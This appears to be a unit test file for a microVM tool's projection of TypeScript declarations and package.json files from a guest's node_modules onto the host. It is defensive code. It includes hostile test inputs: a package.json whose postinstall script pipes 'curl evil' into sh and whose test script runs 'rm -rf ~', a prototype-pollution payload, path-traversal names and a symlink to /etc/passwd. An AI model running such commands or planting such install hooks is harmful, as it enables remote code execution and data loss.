import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { DEFAULT_PROTECT } from '../../engine/mount';
import { readTar } from '../../engine/tar/reader';
import { encodeHeader, endOfArchive } from '../../engine/tar/writer';
import { newHeader } from '../../engine/tar/types';
import { judgePath, rewritePackageJson } from '../../engine/workspace/type-filter';
import { GUEST_LISTING_SCRIPT, projectionTargets } from '../../engine/workspace/type-projection';
import { checkTarget, PROJECTION_MARKER, StagingTree } from '../../engine/workspace/type-tree';

/** The pure parts of the type projection: what of a guest's node_modules may reach the host, and how it lands there. */
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'microvm-types-unit-'));
const savedHome = process.env.MICROVM_HOME;
const protect = [...DEFAULT_PROTECT];

before(() => {
  process.env.MICROVM_HOME = path.join(tmp, 'home');
});
after(() => {
  if (savedHome === undefined) delete process.env.MICROVM_HOME;
  else process.env.MICROVM_HOME = savedHome;
  fs.rmSync(tmp, { recursive: true, force: true });
});

test('declarations and package.json files are kept, under a normalized path', () => {
  assert.deepEqual(judgePath('./left-pad/index.d.ts', protect), { keep: 'declaration', path: 'left-pad/index.d.ts' });
  assert.deepEqual(judgePath('a/node_modules/b/x.d.mts', protect), {
    keep: 'declaration',
    path: 'a/node_modules/b/x.d.mts',
  });
  assert.deepEqual(judgePath('./@types/node/fs.d.cts', protect), { keep: 'declaration', path: '@types/node/fs.d.cts' });
  assert.deepEqual(judgePath('./pkg/package.json', protect), { keep: 'package-json', path: 'pkg/package.json' });
});

test('code, executables by name and everything else are left out', () => {
  for (const name of [
    './pkg/index.js',
    './pkg/cli',
    './pkg/index.ts',
    './pkg/x.d.ts.js',
    './.bin/tsc',
    './pkg/binding.node',
    './pkg/x.d.css.ts',
  ]) {
    assert.ok('skip' in judgePath(name, protect), name);
  }
});

test('hostile paths are refused: traversal, absolute, control characters, protected names, too long or deep', () => {
  const cases: Array<[string, RegExp]> = [
    ['../escape.d.ts', /"\.\."/],
    ['./a/../../escape.d.ts', /"\.\."/],
    ['/etc/x.d.ts', /absolute/],
    ['a//b.d.ts', /empty/],
    ['a/./b.d.ts', /"\."/],
    ['a/b\nc.d.ts', /control/],
    ['a/b\x1b[31m.d.ts', /control/],
    ['a\\..\\b.d.ts', /backslash/],
    ['pkg/\xff\xfe.d.ts', /UTF-8/],
    ['pkg/.git/config.d.ts', /protected name ".git"/],
    ['pkg/.GIT/x.d.ts', /protected name/],
    ['pkg/.vscode/tasks.d.ts', /protected/],
    ['pkg/.husky/package.json', /protected/],
    ['pkg/x.code-workspace/a.d.ts', /protected/],
    [`${'d/'.repeat(40)}x.d.ts`, /deeper/],
    [`${'a'.repeat(300)}.d.ts`, /longer than 255|longer than/],
    [`${'abcdefgh/'.repeat(120)}x.d.ts`, /longer than 1024/],
    ['./.microvm-types.json/x.d.ts', /keeps for itself/],
    ['.tmp-1-x/package.json', /keeps for itself/],
  ];
  for (const [raw, reason] of cases) {
    const verdict = judgePath(raw, protect);
    assert.ok('skip' in verdict, JSON.stringify(raw));
    assert.match(verdict.skip, reason, JSON.stringify(raw));
  }
});

test('package.json keeps only the fields type resolution reads', () => {
  const hostile = {
    name: 'evil',
    version: '1.0.0',
    types: 'index.d.ts',
    main: 'index.js',
    exports: { '.': { types: './index.d.ts', default: './index.js' } },
    typesVersions: { '*': { '*': ['types/*'] } },
    type: 'module',
    scripts: { postinstall: 'curl evil | sh', test: 'rm -rf ~' },
    bin: { evil: 'cli.js' },
    gypfile: true,
    config: { a: 1 },
    workspaces: ['x'],
    man: 'x.1',
    directories: { bin: 'b' },
    engines: { node: '*' },
  };
  const text = `${JSON.stringify(hostile).slice(0, -1)},"__proto__":{"polluted":true}}`;
  const result = rewritePackageJson(Buffer.from(text));
  assert.ok('text' in result);
  const kept = JSON.parse(result.text) as Record<string, unknown>;
  assert.deepEqual(Object.keys(kept).sort(), ['exports', 'main', 'name', 'type', 'types', 'typesVersions', 'version']);
  assert.equal(kept.types, 'index.d.ts');
  assert.doesNotMatch(result.text, /scripts|postinstall|bin|gypfile|curl/);
  assert.equal(kept.polluted, undefined);
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
});

test('a package.json that is not a JSON object, or too big, is left out', () => {
  for (const text of ['[1]', '"x"', 'null', '{not json', ''])
    assert.ok('skip' in rewritePackageJson(Buffer.from(text)), text);
  const big = rewritePackageJson(Buffer.from(JSON.stringify({ name: 'x', pad: 'y'.repeat(2 * 1024 * 1024) })));
  assert.ok('skip' in big && /larger than/.test(big.skip));
});

test('targets are the node_modules volumes inside a filtered share, on the host path they cover', () => {
  const share = {
    hostPath: '/home/u/app',
    guestPath: '/workspaces/app',
    readOnly: false,
    symlinks: 'opaque' as const,
    filter: true,
    protect,
    protectPaths: [],
    git: 'writable' as const,
  };
  const targets = projectionTargets(
    [share, { ...share, hostPath: '/home/u/other', guestPath: '/other', filter: false }],
    [
      { mountPoint: '/workspaces/app/node_modules' },
      { mountPoint: '/workspaces/app/web/node_modules' },
      { mountPoint: '/workspaces/app/.venv' },
      { mountPoint: '/other/node_modules' },
      { mountPoint: '/cache/node_modules' },
      { mountPoint: '/workspaces/app/../x/node_modules' },
    ],
  );
  assert.deepEqual(targets, [
    { guestDir: '/workspaces/app/node_modules', hostDir: '/home/u/app/node_modules', folder: '/home/u/app' },
    { guestDir: '/workspaces/app/web/node_modules', hostDir: '/home/u/app/web/node_modules', folder: '/home/u/app' },
  ]);
});

test('a node_modules the user made on the host, a link or a path through a link is never replaced', () => {
  const folder = fs.realpathSync(fs.mkdtempSync(path.join(tmp, 'folder-')));
  const hostDir = path.join(folder, 'node_modules');
  assert.equal(checkTarget(folder, hostDir), 'absent');
  fs.mkdirSync(hostDir);
  assert.equal(checkTarget(folder, hostDir), 'empty');
  fs.writeFileSync(path.join(hostDir, 'left-pad'), 'x');
  assert.throws(
    () => checkTarget(folder, hostDir),
    (err: Error & { code?: string }) => err.code === 'E_TYPE_PROJECTION' && /made on the host/.test(err.message),
  );
  fs.writeFileSync(path.join(hostDir, PROJECTION_MARKER), '{}');
  assert.equal(checkTarget(folder, hostDir), 'ours');
  fs.rmSync(hostDir, { recursive: true });
  fs.symlinkSync('/tmp', hostDir);
  assert.throws(() => checkTarget(folder, hostDir), /not a directory/);
  fs.rmSync(hostDir);
  fs.symlinkSync('/tmp', path.join(folder, 'web'));
  assert.throws(() => checkTarget(folder, path.join(folder, 'web', 'node_modules')), /symbolic link/);
});

test('the staging tree writes 0644 files and 0755 directories once each, and replaces the old projection whole', () => {
  const folder = fs.realpathSync(fs.mkdtempSync(path.join(tmp, 'folder-')));
  const hostDir = path.join(folder, 'node_modules');
  const first = StagingTree.create(hostDir, 'absent', undefined);
  assert.equal(first.write('old/index.d.ts', 'export {};'), true);
  first.write(PROJECTION_MARKER, '{}');
  first.install(hostDir);
  const second = StagingTree.create(hostDir, 'ours', undefined);
  assert.equal(second.write('a/b/index.d.ts', 'export type T = 1;'), true);
  assert.equal(second.write('a/b/index.d.ts', 'again'), false, 'a path named twice');
  assert.equal(second.write('a/b/index.d.ts/x.d.ts', 'x'), false, 'a file used as a directory');
  second.write(PROJECTION_MARKER, '{}');
  second.install(hostDir);
  assert.equal(fs.existsSync(path.join(hostDir, 'old')), false);
  assert.equal(fs.readFileSync(path.join(hostDir, 'a/b/index.d.ts'), 'utf8'), 'export type T = 1;');
  assert.equal(fs.statSync(path.join(hostDir, 'a/b/index.d.ts')).mode & 0o7777, 0o644);
  assert.equal(fs.statSync(path.join(hostDir, 'a/b')).mode & 0o7777, 0o755);
  assert.equal(fs.statSync(hostDir).mode & 0o7777, 0o755);
  assert.deepEqual(
    fs.readdirSync(path.join(process.env.MICROVM_HOME as string, 'type-projections')),
    [],
    'no staging left behind',
  );
});

test('the tar reader reads concatenated archives when asked (a guest find -exec tar writes one per batch)', async () => {
  const entry = (name: string, body: string): Buffer =>
    Buffer.concat([
      encodeHeader(newHeader({ path: name, type: 'file', size: body.length })),
      Buffer.from(body),
      Buffer.alloc((512 - (body.length % 512)) % 512),
    ]);
  const stream = Buffer.concat([
    entry('./a.d.ts', 'a'),
    endOfArchive(),
    Buffer.alloc(8192),
    entry('./b.d.ts', 'b'),
    endOfArchive(),
  ]);
  const names = async (concatenated: boolean): Promise<string[]> => {
    const seen: string[] = [];
    for await (const e of readTar(
      (async function* () {
        yield stream;
      })(),
      undefined,
      { concatenated },
    ))
      seen.push(e.header.path);
    return seen;
  };
  assert.deepEqual(await names(false), ['./a.d.ts']);
  assert.deepEqual(await names(true), ['./a.d.ts', './b.d.ts']);
});

test('a staging tree a killed process left behind is removed by the next projection', () => {
  const home = path.join(process.env.MICROVM_HOME as string, 'type-projections');
  fs.mkdirSync(path.join(home, '.tmp-999999999-abandoned', 'pkg'), { recursive: true });
  fs.mkdirSync(path.join(home, `.tmp-${process.pid}-live`), { recursive: true });
  const folder = fs.realpathSync(fs.mkdtempSync(path.join(tmp, 'folder-')));
  const staging = StagingTree.create(path.join(folder, 'node_modules'), 'absent', undefined);
  assert.equal(fs.existsSync(path.join(home, '.tmp-999999999-abandoned')), false);
  assert.equal(fs.existsSync(path.join(home, `.tmp-${process.pid}-live`)), true, "a live writer's tree stays");
  staging.discard();
  fs.rmSync(path.join(home, `.tmp-${process.pid}-live`), { recursive: true });
});

test(
  'on another file system than $MICROVM_HOME the tree is staged inside the covered node_modules and swapped entry by entry',
  { skip: !fs.existsSync('/dev/shm') },
  () => {
    const folder = fs.realpathSync(fs.mkdtempSync('/dev/shm/microvm-types-unit-'));
    try {
      assert.notEqual(fs.statSync(folder).dev, fs.statSync(tmp).dev);
      const hostDir = path.join(folder, 'node_modules');
      const first = StagingTree.create(hostDir, 'absent', undefined);
      assert.ok(first.root.startsWith(`${hostDir}/.tmp-${process.pid}-`), first.root);
      assert.equal(
        checkTarget(folder, hostDir),
        'ours',
        'marked from the start: a run killed now leaves a directory the next may replace',
      );
      first.write('old/index.d.ts', 'export {};');
      first.write(PROJECTION_MARKER, '{}');
      first.install(hostDir);
      const second = StagingTree.create(hostDir, checkTarget(folder, hostDir), undefined);
      second.write('new/index.d.ts', 'export {};');
      second.write(PROJECTION_MARKER, '{}');
      second.install(hostDir);
      assert.deepEqual(fs.readdirSync(hostDir).sort(), [PROJECTION_MARKER, 'new']);
      assert.equal(fs.statSync(hostDir).mode & 0o7777, 0o755);
      const empty = path.join(folder, 'web', 'node_modules');
      fs.mkdirSync(empty, { recursive: true });
      StagingTree.create(empty, 'empty', undefined).discard();
      assert.equal(checkTarget(folder, empty), 'ours', 'an empty node_modules is marked before staging starts in it');
    } finally {
      fs.rmSync(folder, { recursive: true, force: true });
    }
  },
);

test(
  "run as root for another user's folder, the projection belongs to that user",
  { skip: process.getuid?.() !== 0 },
  () => {
    const folder = fs.realpathSync(fs.mkdtempSync(path.join(tmp, 'folder-')));
    const hostDir = path.join(folder, 'node_modules');
    const staging = StagingTree.create(hostDir, 'absent', { uid: 4321, gid: 4322 });
    staging.write('pkg/index.d.ts', 'export {};');
    staging.write(PROJECTION_MARKER, '{}');
    staging.install(hostDir);
    for (const rel of ['', 'pkg', 'pkg/index.d.ts', PROJECTION_MARKER]) {
      const stat = fs.lstatSync(path.join(hostDir, rel));
      assert.deepEqual([stat.uid, stat.gid], [4321, 4322], rel || 'node_modules');
    }
  },
);

test('the guest listing script lists only regular type files, and GNU find and tar (Debian images) write what the reader takes', () => {
  const dir = fs.mkdtempSync(path.join(tmp, 'listing-'));
  const long = `pkg/${'deep-directory-name/'.repeat(8)}index.d.ts`;
  for (const [rel, text] of [
    [long, 'export {};'],
    ['pkg/package.json', '{"name":"pkg"}'],
    ['pkg/index.js', 'x'],
    ['pkg/x.d.mts', 'export {};'],
  ]) {
    fs.mkdirSync(path.dirname(path.join(dir, rel!)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel!), text!);
  }
  fs.symlinkSync('/etc/passwd', path.join(dir, 'pkg', 'passwd.d.ts'));
  fs.symlinkSync('/etc', path.join(dir, 'out'));
  const stream = execFileSync('/bin/sh', ['-c', GUEST_LISTING_SCRIPT, 'microvm-types', dir], {
    maxBuffer: 16 * 1024 * 1024,
  });
  return (async () => {
    const kept: string[] = [];
    for await (const entry of readTar(
      (async function* () {
        yield stream;
      })(),
      undefined,
      { concatenated: true },
    )) {
      assert.equal(entry.header.type, 'file');
      const verdict = judgePath(entry.header.path, protect);
      if ('keep' in verdict) kept.push(verdict.path);
    }
    assert.deepEqual(kept.sort(), [long, 'pkg/package.json', 'pkg/x.d.mts']);
  })();
});
